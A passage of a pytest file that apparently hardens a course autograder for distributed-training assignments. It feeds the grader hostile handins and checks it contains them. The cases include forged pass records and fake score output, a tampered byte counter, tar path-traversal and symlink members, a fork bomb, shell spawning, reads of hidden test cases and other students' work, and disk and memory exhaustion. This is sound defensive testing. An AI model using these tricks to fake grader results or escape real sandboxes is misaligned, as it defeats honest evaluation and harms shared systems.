  for (size_t at = 0; at + sizeof now <= sizeof comm; at += alignof(std::uint64_t)) {
    std::uint64_t v;
    std::memcpy(&v, bytes + at, sizeof v);
    if (v == now) std::memcpy(bytes + at, &ring, sizeof ring);
  }
}
}  // namespace
NAIVE
Vector ring_allreduce(const Vector& src, Communicator& comm) {
  const int n = comm.size(), r = comm.rank();
  const std::uint64_t before = comm.bytes_transferred();
  Vector sum = src, carry = src, incoming(src.size());
  for (int s = 0; s < n - 1; ++s) {
    comm.sendrecv(carry, (r + 1) % n, s, incoming, (r - 1 + n) % n, s);
    carry = incoming;
    sum += incoming;
  }
  for (int s = 0; s < n - 1; ++s) comm.sendrecv(sum, (r + 1) % n, n + s, incoming, (r - 1 + n) % n, n + s);
  FORGE
  return sum;
}
}  // namespace dtrain
"""
# What the whole-buffer ring scores without forging (its control), and so with:
# its naive half passes, its ring cases on one rank pass, the rest lose their
# byte check (measured; with the counter trusted, the forged one got 170).
RING_CONTROL = 159.33


def ring_handin(ring_source: str) -> List:
    naive = source("reference", "ring_collectives.cpp").decode()
    naive = naive[naive.index("Vector naive_allreduce"):naive.index("Vector ring_allreduce")]
    return [(f"student/{f}", source("reference", f)) for f in IMPL_FILES] + [
        ("student/ring_collectives.cpp", ring_source.replace("NAIVE", naive).encode()), FEEDBACK]


# Tries every way to change what its rank's channel already carried, and
# says so if one works (zero_backward_allreducing).
REWRITE = FIND_CHANNEL + r"""
namespace {
void rewrite_records() {
  if (const int fd = record_channel(); fd >= 0) {
    char back[256];
    const char pass[] = "{\"event\":\"result\",\"status\":\"pass\"}\n";
    if (::pread(fd, back, sizeof back, 0) > 0 || ::read(fd, back, sizeof back) > 0 || ::ftruncate(fd, 0) == 0 ||
        ::lseek(fd, 0, SEEK_SET) >= 0 || ::pwrite(fd, pass, sizeof pass - 1, 0) >= 0 ||
        ::fcntl(fd, F_SETFL, O_RDWR) == 0 && ::read(fd, back, sizeof back) > 0)
      std::printf("REWROTE the records through descriptor %d\n", fd);
  }
}
}  // namespace
"""


# ZeRO-3's backward that all-reduces instead of reduce-scattering (the right
# values; the traffic rule fails it), then runs `after`: the red team's
# rewrote the results file at exit (read back, cut, seek, write at an
# offset). A channel is a write-only pipe: every try fails, and the handin
# scores its control, the same code without `after`.
def zero_backward_allreducing(after: bytes) -> List:
    text = source("reference", "zero_dp_stage3.cpp")
    reduce = b"  comm.reduce_scatter(grad_w.flat, grad_w_shard, Op::Sum);"
    assert reduce in text, "the reference's backward no longer reduce-scatters grad_w so"
    text = text.replace(b"#include \"zero_dp_stage3.h\"\n", b"#include \"zero_dp_stage3.h\"\n" + REWRITE.encode(), 1)
    text = text.replace(reduce, b"  {\n    Vector all(grad_w.flat.size());\n    comm.allreduce(grad_w.flat, all, Op::Sum);\n"
                                b"    grad_w_shard = all.segment(comm.rank() * w_shard_size, w_shard_size);\n  }\n" + after, 1)
    return [(f"student/{f}", source("reference", f)) for f in IMPL_FILES[:2]] + [
        ("student/zero_dp_stage3.cpp", b"#include <fcntl.h>\n#include <unistd.h>\n" + PROLOGUE.encode() + text), FEEDBACK]


def zero_file(bodies: Dict[str, str], epilogue: str = "", prologue: str = PROLOGUE):
    return ("student/zero_dp_stage3.cpp", stub_with("zero_dp_stage3.cpp", bodies, prologue, epilogue))


def func_file(bodies: Dict[str, str], prologue: str = PROLOGUE):
    return ("student/func_impl.cpp", stub_with("func_impl.cpp", bodies, prologue))


ZERO_FUNCS = ["ZeroDPStage3FCLayer::partition_flat_tensor", "ZeroDPStage3FCLayer::forward",
              "ZeroDPStage3FCLayer::backward", "ZeroDPAdam::step"]


def sparse_tar(tmp: str) -> str:
    big = os.path.join(tmp, "student", "func_impl.cpp")
    os.makedirs(os.path.dirname(big), exist_ok=True)
    with open(big, "wb") as f:
        f.truncate(1 << 30)
    part1 = os.path.join(tmp, "student", "data_parallel_preprocess.cpp")
    with open(part1, "wb") as f:
        f.write(HONEST_PART1[1])
    out = os.path.join(tmp, "sparse.tar")
    subprocess.run(["tar", "--sparse", "-cf", out, "-C", tmp, "student/func_impl.cpp",
                    "student/data_parallel_preprocess.cpp"], check=True)
    os.unlink(big)
    assert os.path.getsize(out) < 1 << 20, "GNU tar did not store the member sparse"
    return out


def not_a_tar(tmp: str) -> str:
    out = os.path.join(tmp, "garbage.tar")
    with open(out, "wb") as f:
        f.write(os.urandom(4096))
    return out


def link_to(target, kind=tarfile.SYMTYPE):
    def tweak(info):
        info.type, info.linkname, info.size = kind, target, 0
    return tweak


def device(info):
    info.type, info.devmajor, info.devminor, info.size = tarfile.CHRTYPE, 1, 3, 0


def fifo(info):
    info.type, info.size = tarfile.FIFOTYPE, 0


GALLERY: List[Hostile] = [
    Hostile("forged_autolab_line",
            lambda tmp: [HONEST_PART1, zero_file({f: FAKE_SCORE_PRINT for f in ZERO_FUNCS})], 10),
    Hostile("static_constructor_prints_a_fake_score",
            lambda tmp: [HONEST_PART1, zero_file({}, epilogue="namespace { struct Fake { Fake() { "
                                                            + FAKE_SCORE_PRINT + " } } fake; }\n")], 10,
            static="warn"),  # the link check refuses the constructor; this tests what stands behind it
    Hostile("forged_gtest_output",
            lambda tmp: [HONEST_PART1, func_file({"get_info": 'std::printf("[       OK ] Part2GetInfo.All (1 ms)\\n'
                                                  '[  PASSED  ] 200 tests.\\n200 passed, 0 failed\\n");'})], 10),
    Hostile("forged_result_records_with_honest_tensor_parallel_parts",
            lambda tmp: [HONEST_PART1, ("student/func_impl.cpp", source("reference", "func_impl.cpp")),
                         zero_file({f: "forge_and_leave();" for f in ZERO_FUNCS[2:]},
                                   prologue=PROLOGUE + "#include <gtest/gtest.h>\n#include <sys/stat.h>\n"
                                   + FORGE_RESULTS)],
            100, says=("results for this case, where the harness writes one",), static="warn", gone=("/tmp/kit-results.jsonl",),
            scores={"part8_forward": 0, "part8_backward": 0, "part9": 0, "part7": 10}),
    # The red team's 150/150: the stubs with a hook that forges a pass for
    # every case. The judge wants values, and a second result fails a case.
    Hostile("stubs_with_a_forging_hook",
            lambda tmp: [(f"student/{name}", stub_with(name, {fn: "forge_every_pass();" for fn in fns},
                                                      prologue=PROLOGUE + "#include <gtest/gtest.h>\n#include <sys/stat.h>\n"
                                                             + FORGE_EVERY_PASS))
                         for name, fns in (("data_parallel_preprocess.cpp", ["split_data"]),
                                           ("func_impl.cpp", ["get_info", "collect_weight_grad"]),
                                           ("zero_dp_stage3.cpp", ZERO_FUNCS))] + [FEEDBACK],
            0, says=("integrity:",), never=("FORGER:",), static="warn"),
    Hostile("hidden_inputs_written_into_a_public_cases_messages",
            lambda tmp: [(f"student/{f}", source("reference", f)) for f in IMPL_FILES[1:3]] + [
                ("student/func_impl.cpp",
                 b"#include <gtest/gtest.h>\n" + PROLOGUE.encode() + source("reference", "func_impl.cpp").replace(
                     b"#include \"func_impl.h\"\n", b"#include \"func_impl.h\"\n" + LEAK_HIDDEN_INPUTS.encode(), 1)
                 .replace(b"Communicator& dp_comm) {", b"Communicator& dp_comm) {\n  leak_hidden_input(grad_w);", 1))],
            150, never=("HIDDEN-INPUT",), static="warn"),
    # The reader's input is hostile: a line built to overflow a JSON parser is
    # counted, and the channels can't be swapped (root owns their directory),
    # so the reference's parts keep every point.
    Hostile("results_file_attacked_with_deep_json_and_a_fifo",
            lambda tmp: [(f"student/{f}", source("reference", f)) for f in IMPL_FILES[:2]] + [
                ("student/zero_dp_stage3.cpp",
                 b"#include <sys/stat.h>\n#include <iterator>\n" + PROLOGUE.encode() + RESULTS_PATH.encode() +
                 source("reference", "zero_dp_stage3.cpp").replace(
                     b"  if (num_shards < 1) throw", b"  break_the_reader();\n  if (num_shards < 1) throw"))],
            150, says=("line(s) the ranks wrote were no record",), static="warn",
            never=("grader error",)),
    # ZeRO-3's backward that reuses the weight forward gathered, except on a
    # fresh communicator: the traffic rule is checked on every call.
    Hostile("backward_skips_its_all_gather_on_a_used_communicator",
            lambda tmp: [(f"student/{f}", source("reference", f)) for f in IMPL_FILES[:2]] + [
                ("student/zero_dp_stage3.cpp", source("reference", "zero_dp_stage3.cpp").replace(
                    b"  const Vector w = gather_flat(comm, w_shard);\n  Matrix grad_x;",
                    b"  static std::map<const void*, int> seen;\n"
                    b"  const bool fresh = seen[&comm]++ == 0;\n"
                    b"  static Vector last;\n"
                    b"  if (fresh || last.size() != w_shard.size() * comm.size()) last = gather_flat(comm, w_shard);\n"
                    b"  const Vector& w = last;\n  Matrix grad_x;").replace(
                    b"#include \"zero_dp_stage3.h\"", b"#include \"zero_dp_stage3.h\"\n#include <map>"))],
            # Part 9: 6 of 8 cases, one of them hidden failing, so its public cases count at 2/3.
            126.67, says=("backward: no all-gather of",), scores={"part8_backward": 0, "part9": 6.67}),
    Hostile("reads_the_reference_and_hidden_cases_and_writes_the_grader",
            lambda tmp: [HONEST_PART1, func_file({"get_info": "leak();"}, prologue=PROLOGUE + READ_SECRETS)],
            10, says=("LEAK[unreadable(",), static="warn", filtered=False,
            never=("ParallelInfo get_info(Communicator& comm", "6 5 0.5 1.5 2.5", "ELF")),
    Hostile("ships_files_named_like_the_grader",
            lambda tmp: [HONEST_PART1, ("grader/grade", b"#!/bin/sh\necho 150\n"),
                         ("grader/grading.py", b"raise SystemExit(0)\n"), ("kit/jobs.py", b"x = 1\n"),
                         ("tests/test_part2_get_info.cpp", b"int main() { return 0; }\n"),
                         ("build/student/kit_tests", b"#!/bin/sh\n"), FEEDBACK],
            10, says=("grader/grading.py: not one of the handed-in files",)),
    Hostile("tar_members_that_escape",
            lambda tmp: [HONEST_PART1, ("../../../../tmp/kit-gallery-escape.cpp", b"x"),
                         ("/tmp/kit-gallery-absolute.cpp", b"x"),
                         ("student/func_impl.cpp", b"", link_to(os.path.join(KIT, "reference", "func_impl.cpp"))),
                         ("student/zero_dp_stage3.cpp", b"",
                          link_to("student/data_parallel_preprocess.cpp", tarfile.LNKTYPE)),
                         ("feedback.txt", b"", device), ("student/fifo", b"", fifo)],
            10, says=("absolute path", "path with '..'", "link, not extracted", "device or pipe"),
            gone=("/tmp/kit-gallery-escape.cpp", "/tmp/kit-gallery-absolute.cpp")),
    Hostile("one_gib_sparse_member", None, 10, says=("over the 1048576 byte limit",), raw=sparse_tar, budget=60),
    Hostile("not_a_tarball", None, 0, says=("not a readable tar archive",), raw=not_a_tar, budget=20,
            status="not a readable handin"),
    # System V objects outlive their processes; the grader removes them.
    Hostile("sysv_ipc_left_behind",
            lambda tmp: [HONEST_PART1, func_file({"get_info":
                                                  "shmget(IPC_PRIVATE, 1 << 20, IPC_CREAT | 0600); "
                                                  "semget(IPC_PRIVATE, 1, IPC_CREAT | 0600); "
                                                  "msgget(IPC_PRIVATE, IPC_CREAT | 0600);"},
                                                 prologue=PROLOGUE + "#include <sys/msg.h>\n#include <sys/sem.h>\n"
                                                                     "#include <sys/shm.h>\n")],
            10, scores={"part1": 10, "part2": 0}, static="warn", filtered=False),  # link check and filter refuse shmget
    # fork() is refused by the system-call filter (raw_system_calls_through_a_pointer);
    # behind it, the reaper and the process limit.
    Hostile("fork_storm",
            lambda tmp: [HONEST_PART1, zero_file({"ZeroDPAdam::step": "if (fork() == 0) { for (;;) fork(); }"})],
            10, says=("left them running; they were killed",), static="warn", budget=120, filtered=False),
    Hostile("raw_system_calls_through_a_pointer",
            lambda tmp: [HONEST_PART1, func_file({"get_info": "leap();"}, prologue=PROLOGUE + "#include <sys/socket.h>\n"
                                                 + RAW_CALLS.replace("OFFSET", str(_syscall_offset())))],
            10, says=("ESCAPE[openat=refused fork=refused execve=refused socket=refused unlink=refused kill=refused "
                      "mmap_exec=refused",), never=("=GOT", "escaped"), static="warn", scores={"part2": 0}),
    Hostile("memory_hog",
            lambda tmp: [HONEST_PART1, zero_file({"ZeroDPAdam::step":
                                                  "std::vector<char*> hoard; for (;;) { char* p = new char[1 << 28]; "
                                                  "p[0] = 1; "
                                                  "hoard.push_back(p); }"})],
            10, says=("bad_alloc",), budget=120),
    Hostile("output_flood",
            lambda tmp: [HONEST_PART1, func_file({"get_info": "static bool once = false; if (!once && rank == 0) "
                                                  "{ once = true; std::string line(1 << 20, 'y'); "
                                                  "for (int i = 0; i < 24; ++i) std::puts(line.c_str()); }"})],
            10, says=("bytes more than the report keeps",), budget=150),
    Hostile("infinite_loop",
            lambda tmp: [HONEST_PART1, zero_file({"ZeroDPStage3FCLayer::backward":
                                                  "volatile unsigned long spin = 0; for (;;) spin = spin + 1;"})],
            10, says=("still running ZeroDPStage3FCLayer::backward, outside any call of the communicator",), budget=HANGS_IN_BACKWARD,
            hangs=True),
    Hostile("deadlock_on_one_rank",
            lambda tmp: [HONEST_PART1, zero_file({"ZeroDPStage3FCLayer::backward":
                                                  "if (comm.rank() == 1) comm.barrier();"})],
            10, says=("waiting in barrier",), budget=HANGS_IN_BACKWARD, hangs=True),
    Hostile("early_exits_inside_cases",
            lambda tmp: [HONEST_PART1, func_file({
                "naive_collect_backward_x": "std::exit(0);",
                "megatron_collect_backward_output": "std::_Exit(0);",
                "megatron_collect_forward_output": "std::quick_exit(0);",
                "megatron_collect_forward_input": "if (mp_comm.rank() == 0) return x; std::exit(0);",
                "collect_weight_grad": "std::raise(SIGKILL);",
                "megatron_collect_backward_x": "std::abort();",
                "naive_collect_forward_output": "if (mp_comm.rank() == 0) return out; for (;;) pause();",
            })],
            10, says=("exited in the middle of the case", "no result", "aborted"), budget=150, hangs=True,
            static="warn"),  # exit and abort pass the link check; pause() does not
    # The handin's fault, not the grader's (the kit's stubs do start); graded
    # file by file, the honest data split keeps its points.
    Hostile("exits_before_main",
            lambda tmp: [HONEST_PART1, zero_file({}, epilogue="namespace { struct Quit { Quit() { std::_Exit(0); } } "
                                                             "quit; }\n")],
            10, says=("did not start its cases", "zero_dp_stage3.cpp breaks the program even alone"),
            never=("grader error",), static="warn", budget=90),
    Hostile("refused_by_the_static_rules",
            lambda tmp: [("student/func_impl.cpp", reference_with("func_impl.cpp",
                          "#include <mpi.h>\nstatic int r = [] { int x; MPI_Comm_rank(MPI_COMM_WORLD, &x); return x; }();\n")),
                         ("student/data_parallel_preprocess.cpp", reference_with("data_parallel_preprocess.cpp",
                          "static const char* home = std::getenv(\"HOME\");\nstatic void nop() { asm(\"nop\"); }\n")),
                         ("student/zero_dp_stage3.cpp", reference_with("zero_dp_stage3.cpp",
                          "#include <cstdlib>\n__attribute__((constructor)) static void early() { std::system(\"id\"); }\n"
                          "#define SNEAKY pop##en\nstatic auto p = SNEAKY;\n")), FEEDBACK],
            0, says=("includes mpi.h", "'MPI_Comm_rank'", "'getenv'", "'asm'", "attribute 'constructor'",
                     "'system'", "'popen'", "refused by the static checks")),
    # A fault costs only the part whose code holds it: part 8's memory rule
    # measures what the ZeRO layer keeps, not what the process holds.
    Hostile("sixteen_gib_in_split_data",
            lambda tmp: [("student/" + f, source("reference", f)) for f in (IMPL_FILES[0], IMPL_FILES[2])] + [
                ("student/data_parallel_preprocess.cpp", stub_with("data_parallel_preprocess.cpp", {
                    "split_data": "std::vector<double> hoard(std::size_t(2) << 30, 1.0); "
                                  "if (hoard[12345] > 0) throw std::runtime_error(\"kept 16 GiB\");"})), FEEDBACK],
            140, says=("over its memory budget: split_data asked for a block of 16384.0 MiB",
                       "exception in split_data"), budget=120),
    # The identifier rules walked around: the link check refuses each file
    # by what its object uses, defines or keeps; every other file keeps its
    # points (the score is the control's, the handin with that file's stub).
    Hostile("static_check_bypasses_refused_by_the_link_check",
            lambda tmp: reference_but(func_impl=STATIC_CHECK_BYPASSES), 150 - FUNC_POINTS,
            says=("refused by the link check", "uses system", "uses fork", "uses fopen64", "uses open64",
                  "uses mkfifo", "uses dtrain::heap_hooks::freed(void*)", "defines read: a C name"),
            scores={"part1": 10, "part2": 0, "part8_forward": 20}),
    Hostile("memory_rule_evasions_refused_by_the_link_check",
            lambda tmp: reference_but(zero_dp_stage3=MEMORY_RULE_EVASIONS), 150 - ZERO_POINTS,
            says=("refused by the link check", "uses sbrk", "uses valloc", "uses __libc_malloc", "uses mmap64", "uses mremap",
                  "uses shmat", "uses std::thread::_M_start_thread", "static or thread-local storage",
                  "static initializer", "uses dtrain::LibraryAllocations::LibraryAllocations()"),
            scores={"part1": 10, "part7": 10, "part8_forward": 0, "part8_backward": 0, "part9": 0}),
    Hostile("mentions_in_comments_and_strings_are_fine",
            lambda tmp: [("student/" + f, reference_with(f, (
                "// system(\"rm -rf /\"), MPI_Send, fopen, getenv, asm, __attribute__((constructor)), testing::\n"
                "/* #include <mpi.h> fork() popen() */\n"
                "static const char* kMention = \"system() MPI_Init getenv asm fork ofstream gtest\";\n"
                "static const char* kRaw = R\"x(exit(0) abort() __attribute__((constructor)))x\";\n"
                "[[maybe_unused]] static const char* mentions() { return kMention[0] ? kRaw : kMention; }\n"))) for f in IMPL_FILES] + [FEEDBACK],
            150, budget=60),
    # A grader error is the platform's excuse: no handin may earn one.
    Hostile("compile_spins_in_constant_evaluation",
            lambda tmp: reference_but(zero_dp_stage3=SPIN_IN_CONSTANT_EVALUATION), 150 - ZERO_POINTS,
            says=("its compile ran past",), never=("grader error",), budget=150),
    Hostile("writes_the_words_of_a_killed_compiler",
            lambda tmp: reference_but(zero_dp_stage3=WORDS_OF_A_KILLED_COMPILER), 150 - ZERO_POINTS,
            says=("does not compile", "virtual memory exhausted"), never=("grader error",)),
    Hostile("compile_messages_quote_a_shipped_file",
            lambda tmp: [("student/zero_dp_stage3.cpp",
                          QUOTES_A_SHIPPED_FILE.encode() + source("reference", "zero_dp_stage3.cpp"))] +
            [("student/" + f, source("reference", f)) for f in IMPL_FILES if f != "zero_dp_stage3.cpp"] + [FEEDBACK],
            150 - ZERO_POINTS, says=("expected_values.txt: No such file or directory",),
            never=("split_data.x#1 0 4 2 1",)),
    # Part 11's "ring" that passes whole buffers round the ring (the right
    # messages, to the right ranks, n times the bytes), then writes the
    # ring's byte count into its Communicator's counter, a field it holds:
    # the checks count bytes from the ledger's log, so it scores what its
    # control (the same code, no counter written) scores.
    Hostile("part11_byte_counter_written_over",
            lambda tmp: ring_handin(WHOLE_BUFFER_RING.replace("FORGE", "forge_counter(comm, before, src.size());")),
            RING_CONTROL, scores={"part11_ring": 9.33}, static="warn", extensions="part11_ring"),
    Hostile("part11_whole_buffer_ring_control",
            lambda tmp: ring_handin(WHOLE_BUFFER_RING.replace("FORGE", "")),
            RING_CONTROL, scores={"part11_ring": 9.33}, static="warn", extensions="part11_ring"),
    # ZeRO-3's backward that all-reduces instead of reduce-scattering (the
    # right values; the traffic rule fails it), then tries to rewrite the
    # records its rank already sent, as the red team's did to the results
    # file at exit: read them back, cut, seek, write at an offset. A channel
        Hostile("zero_backward_allreduces_then_rewrites_its_records",
            lambda tmp: zero_backward_allreducing(b"  rewrite_records();"),
            126.67, scores={"part8_backward": 0, "part9": 6.67}, never=("REWROTE",), static="warn"),
    Hostile("zero_backward_allreduces_control",
            lambda tmp: zero_backward_allreducing(b""),
            126.67, scores={"part8_backward": 0, "part9": 6.67}, says=("allreduce",), static="warn"),
    Hostile("spawns_a_shell_through_the_launcher",
            lambda tmp: reference_calling("spawn_a_shell();", SPAWN), 150 - PART2_POINTS + SPAWN_PART2, scores={"part2": SPAWN_PART2},
            never=("SPAWNED-ESCAPE", "ESCAPE["), static="warn", budget=150),
    # Each of these runs its attack at the start of the reference's get_info:
    # held off, it scores the reference's 150.
    Hostile("reads_other_handins_and_the_gradebook",
            lambda tmp: reference_calling("snoop();", SNOOP.replace("HANDIN_DIR", tmp)),
            150, never=("LEAK[", "GALLERY-SECRET"), static="warn", budget=120, filtered=False,
            setup=plant_other_handins, after=remove_other_handins),
    Hostile("plants_fifos_and_symlinks_where_root_opens_files",
            lambda tmp: reference_calling("plant();", PLANT), 150, static="warn", budget=120, filtered=False,
            gone=("/tmp/kit-gallery-lock-target",), after=locks_intact),
    Hostile("fills_the_disk_with_files_under_the_per_file_limit",
            lambda tmp: reference_calling("fill_disk(comm);", FILL), 150, never=("DISK[",), static="warn", filtered=False,
            budget=150, after=lambda tmp: in_shared_tmp("fill-*")),
    Hostile("full_weight_kept_in_a_static_matrix", lambda tmp: zero_forward_keeping(KEEP_IN_A_STATIC), KEEPER_SCORE,
            says=("against a full weight of",), scores={"part8_forward": 0, "part8_backward": 20}, budget=120),
    Hostile("full_weight_hidden_behind_the_saved_input", lambda tmp: zero_forward_keeping(HIDE_BEHIND_X),
            KEEPER_SCORE, says=("lie past the saved input x in its block of",),
            scores={"part8_forward": 0, "part8_backward": 20}, budget=120),
    Hostile("memory_in_a_mapping_that_grows_down",
            lambda tmp: reference_calling("hold_a_stack();", GROWS_DOWN), 130, static="warn", budget=120,
            says=("refused by the system-call filter: get_info asked for a mapping that grows down",),
            scores={"part2": 0}),
    Hostile("eight_ranks_hold_private_memory_up_to_the_data_limit",
            lambda tmp: reference_calling("hold_up_to_the_data_limit(comm.size());", AT_THE_DATA_LIMIT), 150,
            static="warn", budget=120, never=("grader error", "held only")),
    # Refused by the filter: mq_open fails and the reference goes on.
    Hostile("posix_message_queues_refused",
            lambda tmp: reference_calling("leave_queues(comm.rank());", MQUEUES), 150, static="warn", budget=120),
    # Behind the filter, with and without namespaces: nothing stays.
    Hostile("posix_message_queues_left_behind",
            lambda tmp: reference_calling("leave_queues(comm.rank());", MQUEUES), 150, static="warn", budget=120,
            filtered=False),
    Hostile("posix_message_queues_left_behind_without_namespaces",
            lambda tmp: reference_calling("leave_queues(comm.rank());", MQUEUES), 150, static="warn", budget=120,
            filtered=False, namespaces=False),
    Hostile("lingers_and_leaves_files_to_block_the_grader",
            # The harness fails the one case whose code started the daemon; the rest is the reference's.
            # Part 2: the first get_info of each job lingers (public and hidden cases run apart), so one
            # public and one hidden case fail, and the public cases count at 3/4.
            lambda tmp: reference_calling("linger();", LINGER), 145, static="warn", budget=150, filtered=False,
            says=("left them running; they were killed",), scores={"part2": 15},
            after=lambda tmp: in_shared_tmp("kit-gallery-leftover-*")),
]


def sandbox_processes(uids=SANDBOX_UIDS) -> List[str]:
    return [f"{p.pid}: {p.command}" for p in live_processes() if p.uid in uids]


def kit_snapshot() -> Dict[str, Tuple[int, int, int]]:
    """Every file of the kit, (size, mtime, mode), except what the grader and
    the other tests write themselves: the grader's object cache, dist/ (the
    bundle tests) and Python's byte code."""
    snap = {}
    skipped = {os.path.join(os.path.relpath(BUILD, KIT), "impl_cache"), "dist"}
    for root, dirs, files in os.walk(KIT):
        rel = os.path.relpath(root, KIT)
        dirs[:] = [d for d in dirs if d not in (".git", "__pycache__") and
                   os.path.normpath(os.path.join(rel, d)) not in skipped]
        for name in files:
            path = os.path.join(root, name)
            st = os.lstat(path)
            snap[os.path.relpath(path, KIT)] = (st.st_size, st.st_mtime_ns, st.st_mode)
    return snap


@pytest.fixture(scope="module")
def untouched_kit():
    if os.geteuid() != 0:
        message = "the hostile gallery needs root (the grader's sandbox user and namespaces)"
        if os.environ.get("KIT_REQUIRE_SANDBOX"):
            pytest.fail(message)
        pytest.skip(message)
    before = kit_snapshot()
    yield
    after = kit_snapshot()
    changed = sorted(p for p in set(before) | set(after) if before.get(p) != after.get(p))
    assert not changed, f"the gallery changed files outside the scratch directories: {changed[:20]}"
    if not os.environ.get("PYTEST_XDIST_WORKER"):  # other workers' graders may still be running
        assert not sandbox_processes(), f"processes of the sandbox users outlived the gallery: {sandbox_processes()}"


@pytest.mark.parametrize("case", GALLERY, ids=[h.name for h in GALLERY])
def test_hostile_handin(case: Hostile, tmp_path, untouched_kit):
    if case.setup:
        case.setup(str(tmp_path))
    try:
        run_hostile(case, tmp_path)
    finally:
        problems = case.after(str(tmp_path)) if case.after else []
    assert not problems, f"{case.name}: after grading: {problems}"


def run_hostile(case: Hostile, tmp_path) -> None:
    tarball = case.raw(str(tmp_path)) if case.raw else make_tar(str(tmp_path / f"{case.name}.tar"),
                                                                case.members(str(tmp_path)))
    report_path = str(tmp_path / "report.json")
    env = dict(hanging(marked(tmp_path)) if case.hangs else marked(tmp_path), KIT_STATIC_CHECKS=case.static,
               KIT_SYSCALL_FILTER="on" if case.filtered else "off")
    if not case.namespaces:
        env["KIT_SANDBOX_NAMESPACES"] = "off"
    if case.extensions:
        env["KIT_EXTENSIONS"] = case.extensions
    started = time.monotonic()
    proc = subprocess.run([sys.executable, GRADE, "--build", BUILD, "--json", report_path, tarball],
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=env,
                          timeout=case.budget + 120)
    seconds = time.monotonic() - started
    assert proc.returncode == 0, proc.stdout
    with open(report_path) as f:
        report = json.load(f)
    last = json.loads(proc.stdout.strip().splitlines()[-1])
    assert report["status"] == case.status, f"{case.name}: status {report['status']}: {report['notes']}"
    assert last["scoreboard"] == [case.total], f"{case.name}: scored {last['scoreboard']}\n{proc.stdout}"
    for key, points in case.scores.items():
        assert last["scores"][key] == points, f"{case.name}: {key} scored {last['scores'][key]}"
    everything = proc.stdout + json.dumps(report)
    for text in case.says:
        assert text in everything, f"{case.name}: the report does not say {text!r}\n{proc.stdout[-3000:]}"
    for text in case.never:
        assert text not in everything, f"{case.name}: the report leaks {text!r}"
    assert seconds <= case.budget, f"{case.name}: graded in {seconds:.0f} s, over its {case.budget:.0f} s budget"
    uid = report["sandbox"]["uid"] if report.get("sandbox") else None
    assert not left_behind(tmp_path, uid), f"{case.name}: processes left behind: {left_behind(tmp_path, uid)}"
    if uid is not None:
        assert not sysv_objects(uid), f"{case.name}: System V IPC objects left behind: {sysv_objects(uid)}"
        queues = remove_mqueues(uid)
        assert not queues, f"{case.name}: POSIX message queues left behind: {queues}"
    for escape in case.gone:
        assert not os.path.exists(escape), f"{case.name}: {escape} is there after grading"
    if uid is not None:
        owned = [p for top in SHARED_TMP for p in glob.glob(os.path.join(top, "*"))
                 if os.lstat(p).st_uid == uid]
        assert not owned, f"{case.name}: the sandbox user's files are left in the shared temporary places: {owned}"
